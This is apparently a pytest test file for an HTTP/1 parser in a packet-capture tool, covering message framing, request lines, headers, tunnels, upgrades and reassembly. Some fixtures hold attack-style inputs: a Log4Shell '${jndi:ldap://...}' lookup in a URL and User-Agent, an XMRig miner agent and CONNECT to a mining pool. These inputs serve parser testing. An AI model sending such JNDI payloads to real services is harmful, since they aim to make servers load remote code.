"""HTTP/1 on the wire (RFC 9110, RFC 9112): where a message ends, which answer is whose, what the row says of both."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from build_packets import START, Reader, conversation, pcap, read_capture

from kanaria.formats.packets.protocols.http import BODY, REQUESTS, exchanges

OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"
GONE = b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"


def get(path: bytes = b"/", *headers: bytes) -> bytes:
    return b"GET " + path + b" HTTP/1.1\r\nHost: web.example\r\n" + b"".join(one + b"\r\n" for one in headers) + b"\r\n"


def found(client: bytes, server: bytes) -> list[dict[str, Any]]:
    return [row for _, row in exchanges(client, server)]


FOLLOWED: dict[str, tuple[bytes, bytes, tuple[int, int, bytes | None]]] = {
    "a length": (get(), b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello", (200, 5, b"hello")),
    "a length in other letters": (get(), b"HTTP/1.1 200 OK\r\ncontent-LENGTH :5\r\n\r\nhello", (200, 5, b"hello")),
    "no reason phrase": (get(), b"HTTP/1.1 200 \r\nContent-Length: 1\r\n\r\nx", (200, 1, b"x")),  # RFC 9112, 4
    "chunks": (get(), b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n", (200, 5, b"hello")),
    "chunks with extensions": (  # 7.1.1
        get(), b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5;a=\"b\"\r\nhello\r\n0;last\r\n\r\n", (200, 5, b"hello"),
    ),
    "chunks with trailers": (  # 7.1.2
        get(),
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: Digest\r\n\r\n5\r\nhello\r\n0\r\n"
        b"Digest: sha-256=0\r\nServer-Timing: db;dur=53\r\n\r\n",
        (200, 5, b"hello"),
    ),
    "compressed, then in chunks": (
        get(), b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\nA\r\n0123456789\r\n0\r\n\r\n", (200, 10, b"0123456789"),
    ),
    "both a length and chunks": (  # 6.3: the encoding overrides the length
        get(), b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n", (200, 5, b"hello"),
    ),
    "nothing of a 204": (get(), b"HTTP/1.1 204 No Content\r\n\r\n", (204, 0, None)),
    "nothing of a 304, whatever length it tells": (get(), b"HTTP/1.1 304 Not Modified\r\nContent-Length: 900\r\n\r\n", (304, 0, None)),
    "hints before the answer": (  # RFC 8297
        get(), b"HTTP/1.1 103 Early Hints\r\nLink: </a.css>\r\n\r\n" + OK, (200, 2, b"ok"),
    ),
    "processing, twice, before the answer": (get(), b"HTTP/1.1 102 Processing\r\n\r\n" * 2 + OK, (200, 2, b"ok")),
    "nothing of a HEAD": (b"HEAD / HTTP/1.1\r\nHost: web.example\r\n\r\n", b"HTTP/1.1 200 OK\r\nContent-Length: 900\r\n\r\n", (200, 0, None)),
    "a body of the client": (
        b"POST / HTTP/1.1\r\nHost: web.example\r\nContent-Length: 11\r\n\r\nGET / HTTP\r\n"[:-1], OK, (200, 2, b"ok"),
    ),
    "chunks of the client": (
        b"POST / HTTP/1.1\r\nHost: web.example\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n", OK, (200, 2, b"ok"),
    ),
    "an empty line behind a body": (  # 2.2: old clients send one; it is to be passed over
        b"POST / HTTP/1.1\r\nHost: web.example\r\nContent-Length: 3\r\n\r\na=b\r\n", OK, (200, 2, b"ok"),
    ),
    "line feeds alone": (b"GET / HTTP/1.1\nHost: web.example\n\n", b"HTTP/1.1 200 OK\nContent-Length: 2\n\nok", (200, 2, b"ok")),
}  # fmt: skip


@pytest.mark.parametrize("name", FOLLOWED)
def test_the_message_that_follows_is_found_where_this_one_ends(name: str) -> None:
    client, server, (status, size, body) = FOLLOWED[name]
    first, second = found(client + get(b"/next"), server + GONE)
    assert (first["status"], first["bytes_out"], first["response_body"]) == (status, size, body)
    assert (second["url"], second["status"], second["bytes_out"]) == ("/next", 404, 0)


@pytest.mark.parametrize("name", FOLLOWED)
def test_cut_anywhere_nothing_that_was_whole_is_lost(name: str) -> None:
    client, server, (status, _, _) = FOLLOWED[name]
    whole = server + GONE
    for size in range(len(whole)):
        rows = found(client + get(b"/next"), whole[:size])
        assert [row["url"] for row in rows] == ["/", "/next"]
        if size >= len(server):
            assert rows[0]["status"] == status


def test_a_body_without_a_length_ends_with_the_connection() -> None:
    """RFC 9112, 6.3, the last rule."""
    (row,) = found(get(), b"HTTP/1.0 200 OK\r\n\r\n" + b"x" * 10_000)
    assert (row["bytes_out"], len(row["response_body"])) == (10_000, BODY)


def test_a_length_is_told_even_where_the_body_was_not_captured() -> None:
    (row,) = found(get(), b"HTTP/1.1 200 OK\r\nContent-Length: 73400320\r\n\r\nELF")
    assert (row["bytes_out"], row["response_body"]) == (73_400_320, b"ELF")


@pytest.mark.parametrize(
    ("line", "method", "url", "protocol"),
    [
        (b"GET / HTTP/1.0", "GET", "/", "HTTP/1.0"),
        (b"OPTIONS * HTTP/1.1", "OPTIONS", "*", "HTTP/1.1"),  # RFC 9112, 3.2.4
        (b"GET http://web.example/a HTTP/1.1", "GET", "http://web.example/a", "HTTP/1.1"),  # 3.2.2
        (b"CONNECT pool.example:3333 HTTP/1.1", "CONNECT", "pool.example:3333", "HTTP/1.1"),  # 3.2.3
        (b"PROPFIND /dav HTTP/1.1", "PROPFIND", "/dav", "HTTP/1.1"),
        (b"M-SEARCH * HTTP/1.1", "M-SEARCH", "*", "HTTP/1.1"),
        (b"GET /with a blank HTTP/1.1", "GET", "/with a blank", "HTTP/1.1"),  # what attacks and broken clients send
        (b"GET /${jndi:ldap://a.example/x} HTTP/1.1", "GET", "/${jndi:ldap://a.example/x}", "HTTP/1.1"),
        (b"GET /\xe3\x81\x82 HTTP/1.1", "GET", "/あ", "HTTP/1.1"),
        (b"GET /\x82\xa0 HTTP/1.1", "GET", "/\\x82\\xa0", "HTTP/1.1"),
        (b"GET /old", "GET", "/old", None),  # HTTP/0.9
    ],
)  # fmt: skip
def test_request_lines(line: bytes, method: str, url: str, protocol: str | None) -> None:
    (row,) = found(line + b"\r\nHost: web.example\r\n\r\n", OK)
    assert (row["method"], row["url"], row["protocol"], row["request"]) == (method, url, protocol, line)


@pytest.mark.parametrize(
    ("header", "column", "meant"),
    [
        (b"HOST:web.example:8080", "host", "web.example:8080"),
        (b"Host: [2001:db8::5]:8080", "host", "[2001:db8::5]:8080"),
        (b"User-agent:\t XMRig/6.21.0 ", "user_agent", "XMRig/6.21.0"),
        (b"User-Agent: ${jndi:ldap://a.example/x}", "user_agent", "${jndi:ldap://a.example/x}"),
        (b"user-agent: \xff\xfe", "user_agent", "\\xff\\xfe"),
        (b"Referer: http://web.example/?a:b", "referer", "http://web.example/?a:b"),
        (b"Authorization: Basic YWRtaW46cGFzc3dvcmQ=", "user", "admin"),  # RFC 7617: the password is not kept
        (b"authorization: BASIC YWRtaW46YTpi", "user", "admin"),  # only the first colon divides
        (b"Authorization: Basic Og==", "user", ""),
        (b"Authorization: Basic not base64", "user", None),
        (b"Authorization: Bearer YWRtaW46", "user", None),
        (b"Authorization: Basic", "user", ""),
    ],
)
def test_headers(header: bytes, column: str, meant: str | None) -> None:
    (row,) = found(b"GET / HTTP/1.1\r\n" + header + b"\r\n\r\n", OK)
    assert row[column] == meant


def test_of_a_header_sent_twice_the_first_counts() -> None:
    (row,) = found(b"GET / HTTP/1.1\r\nHost: first.example\r\nHost: second.example\r\n\r\n", OK)
    assert row["host"] == "first.example"


def test_bytes_of_a_request_are_its_head_and_its_announced_body() -> None:
    head = b"POST /up HTTP/1.1\r\nHost: web.example\r\nContent-Length: 100000\r\n\r\n"
    (row,) = found(head + b"z" * 9000, OK)
    assert (row["bytes_in"], len(row["request_body"])) == (len(head) + 100_000, BODY)


@pytest.mark.parametrize("length", [b"-5", b"5, 5", b"0x5", b"99999999999999999999", b"\xb2"])
def test_a_length_that_is_none_gives_no_row_a_size_it_has_not(length: bytes) -> None:
    (row,) = found(get(), b"HTTP/1.1 200 OK\r\nContent-Length: " + length + b"\r\n\r\nhello")
    assert row["status"] == 200
    assert row["bytes_out"] in (0, 5)


def test_so_many_requests_as_ids_have_room_for() -> None:
    rows = found(get(b"/n") * 400, OK * 400)
    assert len(rows) == REQUESTS
    assert {row["status"] for row in rows} == {200}


def test_a_tunnel_begins_where_the_proxy_agrees() -> None:
    """RFC 9110, 9.3.6: what follows a successful CONNECT is no message of this connection."""
    ask = b"CONNECT pool.example:3333 HTTP/1.1\r\nHost: pool.example:3333\r\n\r\n"
    (row,) = found(ask + b'{"id":1}\n', b"HTTP/1.1 200 Connection established\r\n\r\n" + b'{"id":1,"result":1}\n')
    assert (row["status"], row["bytes_out"], row["response_body"]) == (200, 0, None)


def test_a_proxy_that_refuses_says_why_in_a_body() -> None:
    ask = b"CONNECT pool.example:3333 HTTP/1.1\r\nHost: pool.example:3333\r\n\r\n"
    first, second = found(ask + get(), b"HTTP/1.1 403 Forbidden\r\nContent-Length: 6\r\n\r\ndenied" + OK)
    assert (first["status"], first["response_body"], second["status"]) == (403, b"denied", 200)


def test_after_an_upgrade_nothing_is_taken_for_a_request(read: Reader) -> None:
    """RFC 9110, 7.8: behind 101 the connection speaks another protocol."""
    up = get(b"/ws", b"Connection: Upgrade", b"Upgrade: websocket", b"Sec-WebSocket-Key: AAAA")
    switched = b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"
    rows, _ = read(
        pcap(conversation([("c", up), ("s", switched), ("c", b"GET /x HTTP/1.1\r\n\r\n"), ("s", OK)], dport=80))
    )
    assert [(row["url"], row["status"]) for row in rows["http"]] == [("/ws", 101)]
    assert rows["connection"][0]["service"] == "websocket"


def test_each_request_has_the_time_it_was_sent(read: Reader) -> None:
    script = [("c", get(b"/1")), ("s", OK), ("c", get(b"/2") + get(b"/3")), ("s", OK + GONE)]
    frames = [(number * 1_000_000, frame) for number, frame in enumerate(conversation(script, dport=80))]
    rows, _ = read(pcap(frames))
    began = datetime.fromtimestamp(START / 1e6, UTC)
    assert [(row["url"], (row["time"] - began) // timedelta(seconds=1), row["status"]) for row in rows["http"]] == [
        ("/1", 3, 200),
        ("/2", 5, 200),
        ("/3", 5, 404),
    ]


def test_a_request_in_many_segments_in_the_wrong_order(read: Reader) -> None:
    request = get(b"/long?" + b"a" * 3000)
    pieces = [("c", request[at : at + 700]) for at in range(0, len(request), 700)]
    frames = conversation([*pieces, ("s", OK)], dport=80)
    frames[3], frames[5] = frames[5], frames[3]
    rows, rejects = read(pcap(frames))
    assert not rejects
    assert [(len(row["url"]), row["status"], row["bytes_in"]) for row in rows["http"]] == [(3006, 200, len(request))]


def test_an_answer_alone_is_no_request() -> None:
    rows, _ = read_capture(pcap(conversation([("s", OK)], dport=80)))
    assert "http" not in rows
    assert (rows["connection"][0]["service"], rows["connection"][0]["dst_port"]) == ("http", 80)
